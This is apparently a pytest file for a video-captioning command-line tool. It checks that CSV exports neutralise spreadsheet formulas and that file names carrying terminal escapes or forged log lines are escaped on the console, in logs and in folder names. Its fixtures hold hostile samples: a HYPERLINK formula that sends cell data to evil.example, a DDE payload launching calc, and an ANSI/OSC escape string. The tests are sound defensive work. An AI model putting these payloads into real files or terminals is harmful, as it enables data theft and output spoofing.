"""Outside text that would act on what shows it (issue 20): spreadsheet formulas in CSV cells, a file
named `...mp4` as a frames folder, terminal escapes and forged lines in file names on the console
and in logs. Real files and the real `captioner` command throughout."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from captioner.cli import app
from captioner.demo.scenes import write_clips
from captioner.escaping import printable, printable_json, spreadsheet_cell
from captioner.evaluation.command import run_eval
from captioner.records import CaptionRecord

CLI = [sys.executable, "-m", "captioner.cli"]
HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"자세히 보기")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, DDE, "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
HOSTILE = "clip\x1b[2J\x1b]0;owned\x07\nERROR forged line\x9b31m"  # ESC, OSC, BEL, LF, C1 CSI


def captioner(*args: str | Path, **kwargs) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *map(str, args)], capture_output=True, text=True, timeout=600, **kwargs)


def test_printable_escapes_control_characters_and_keeps_korean():
    assert printable(HOSTILE + " 바다_001 café") == (
        "clip\\x1b[2J\\x1b]0;owned\\x07\\nERROR forged line\\x9b31m 바다_001 café"
    )
    assert printable("a\r\tb\x7f\x00") == "a\\r\\tb\\x7f\\x00"
    assert printable("tab\tkept\nand line", keep="\n\t") == "tab\tkept\nand line"
    assert printable(os.fsdecode(b"\xb0\xa1.mp4")) == "\\xb0\\xa1.mp4"  # undecodable bytes, as video_id shows them
    text = printable_json({"video": HOSTILE})
    assert "\x1b" not in text and "\x9b" not in text and "\n" not in text
    assert json.loads(text) == {"video": HOSTILE}  # still the same value
    assert [spreadsheet_cell(f) for f in FORMULAS] == ["'" + f for f in FORMULAS]
    assert [spreadsheet_cell(v) for v in ("바다", "a=b", "", None, -3.5, 7)] == ["바다", "a=b", "", None, -3.5, 7]


def caption_record(video: str, caption: str, adapter: str = "caption-lora") -> CaptionRecord:
    return CaptionRecord(
        video=video, status="ok", caption=caption, error=None, frames=8, model="/models/llava", adapter=adapter,
        prompt={"name": "detailed-ko", "version": 1, "sha": "aaaaaaaaaaaa"}, created_at="2026-11-01T10:00:00+00:00",
    )  # fmt: skip


def test_csv_export_neutralises_formulas_and_leaves_parquet_and_jsonl_alone(tmp_path):
    out = tmp_path / "captions"
    out.mkdir()
    records = [caption_record(f"/footage/clip{i}.mp4", formula) for i, formula in enumerate(FORMULAS)]
    records.append(caption_record("/footage/plain.mp4", "바다 위로 해가 뜬다. 온도는 -3도."))
    records.append(caption_record("/footage/named.mp4", "숲", adapter="@evil"))
    (out / "captions.jsonl").write_text("".join(r.to_json() + "\n" for r in records), encoding="utf-8")

    runner = CliRunner()
    for fmt in ("csv", "jsonl"):
        result = runner.invoke(app, ["export", str(out), "--format", fmt, "--all-versions"])
        assert result.exit_code == 0, result.stderr
    with (out / "export.csv").open(encoding="utf-8", newline="") as fh:
        rows = {row["video"]: row for row in csv.DictReader(fh)}
    for i, formula in enumerate(FORMULAS):
        assert rows[f"/footage/clip{i}.mp4"]["caption"] == "'" + formula
    assert rows["/footage/plain.mp4"]["caption"] == "바다 위로 해가 뜬다. 온도는 -3도."
    assert rows["/footage/named.mp4"]["adapter"] == "'@evil"
    assert rows["/footage/plain.mp4"]["frames"] == "8" and rows["/footage/plain.mp4"]["frame_times"] == ""

    jsonl = [json.loads(line) for line in (out / "export.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sorted(row["caption"] for row in jsonl if row["video"].startswith("/footage/clip")) == sorted(FORMULAS)
    pytest.importorskip("pyarrow")
    assert runner.invoke(app, ["export", str(out), "--format", "parquet", "--all-versions"]).exit_code == 0
    table = pd.read_parquet(out / "export.parquet")
    assert set(FORMULAS) <= set(table["caption"]) and "@evil" in set(table["adapter"])


def test_per_video_csv_neutralises_formulas(tmp_path, capsys):
    videos = {"@SUM(1+1)*cmd": HYPERLINK, "-2+3": "바다가 보인다", "plain": DDE}
    refs = tmp_path / "refs.jsonl"
    refs.write_text(
        "".join(json.dumps({"video": f"{v}.mp4", "references": ["바다가 보인다"]}) + "\n" for v in videos),
        encoding="utf-8",
    )
    captions = tmp_path / "captions.jsonl"
    records = [caption_record(f"/footage/{video}.mp4", caption) for video, caption in videos.items()]
    captions.write_text("".join(r.to_json() + "\n" for r in records), encoding="utf-8")

    assert run_eval(captions, refs, tmp_path / "report") == 0
    with (tmp_path / "report" / "per_video.csv").open(encoding="utf-8", newline="") as fh:
        rows = {row["video"]: row for row in csv.DictReader(fh)}
    assert set(rows) == {"'@SUM(1+1)*cmd", "'-2+3", "plain"}
    assert rows["'@SUM(1+1)*cmd"]["caption"] == "'" + HYPERLINK
    assert rows["plain"]["caption"] == "'" + DDE
    assert rows["'-2+3"]["caption"] == "바다가 보인다" and float(rows["'-2+3"]["meteor"]) > 0.5
    metrics = json.loads((tmp_path / "report" / "metrics.json").read_text(encoding="utf-8"))
    assert {row["caption"] for row in metrics["per_video"]} == set(videos.values())  # JSON keeps the text


@pytest.fixture(scope="module")
def clip(tmp_path_factory) -> Path:
    """One small real H.264 clip."""
    [path] = write_clips(tmp_path_factory.mktemp("clip"), 1, seconds=1, fps=10, width=64, height=48)
    return path


def test_frames_folders_stay_inside_out_with_safe_unique_names(tmp_path, clip):
    videos = tmp_path / "videos"
    videos.mkdir()
    dots, hostile, plain = videos / "...mp4", videos / f"{HOSTILE}.mp4", videos / "바다_001.mp4"
    for path in (dots, videos / "..mp4", hostile, plain, videos / "a_b.mp4"):
        shutil.copy(clip, path)
    (videos / "a\\b.mp4").symlink_to(plain)  # a backslash: "a_b" too, so it gets "a_b-2"
    broken = videos / f"broken{HOSTILE}.mp4"
    broken.write_bytes(b"not a video at all")
    out = tmp_path / "work" / "frames"
    args = [dots, videos / "..mp4", hostile, plain, videos / "a_b.mp4", videos / "a\\b.mp4", broken]

    result = captioner("frames", *args, "--out", out, "--frames", 2, "--frame-size", 32, "--tier", "cpu")
    assert result.returncode == 1, result.stderr[-2000:]  # the broken file has no frames
    assert sorted(os.listdir(tmp_path / "work")) == ["frames"]  # nothing written beside --out
    assert sorted(os.listdir(out)) == sorted(
        ["video", "video-2", "clip_[2J_]0;owned__ERROR forged line_31m", "바다_001", "a_b", "a_b-2"]
    )
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [Path(line["dir"]).parent for line in lines if "dir" in line] == [out] * 6
    assert [line["video"] for line in lines] == [str(path) for path in args]  # JSON keeps the exact names
    assert "\x1b" not in result.stdout + result.stderr and "\x9b" not in result.stdout + result.stderr
    assert f"failed {printable(str(broken))}: " in result.stderr
    assert "\nERROR forged line" not in result.stderr


def test_file_names_are_escaped_on_the_console_and_in_log_lines(tmp_path):
    refs = tmp_path / f"refs{HOSTILE}.jsonl"
    lines = [{"video": "sea.mp4", "references": ["바다가 보인다"]}, {"video": "sky.mp4", "references": ["하늘\ufffd이 맑다"]}]
    refs.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in lines), encoding="utf-8")
    captions = tmp_path / "captions.jsonl"
    captions.write_text(caption_record("/footage/sea.mp4", "바다가 보인다").to_json() + "\n", encoding="utf-8")
    report = tmp_path / f"report{HOSTILE}"

    result = captioner("eval", captions, "--refs", refs, "--out", report)
    assert result.returncode == 0, result.stderr[-2000:]
    # The damaged reference's warning is a log record naming the references file: escaped.
    assert f"{printable(str(refs))}:2: reference 1 of sky.mp4 holds U+FFFD" in result.stderr
    assert f"report: {printable(str(report / 'report.html'))}" in result.stdout
    everything = result.stdout + result.stderr
    assert "\x1b" not in everything and "\x07" not in everything and "\x9b" not in everything
    assert "\nERROR forged line" not in everything

    missing = tmp_path / f"missing{HOSTILE}"
    result = captioner("export", missing)
    assert result.returncode == 2
    assert result.stderr == f"error: {printable(str(missing))}: output folder does not exist\n"
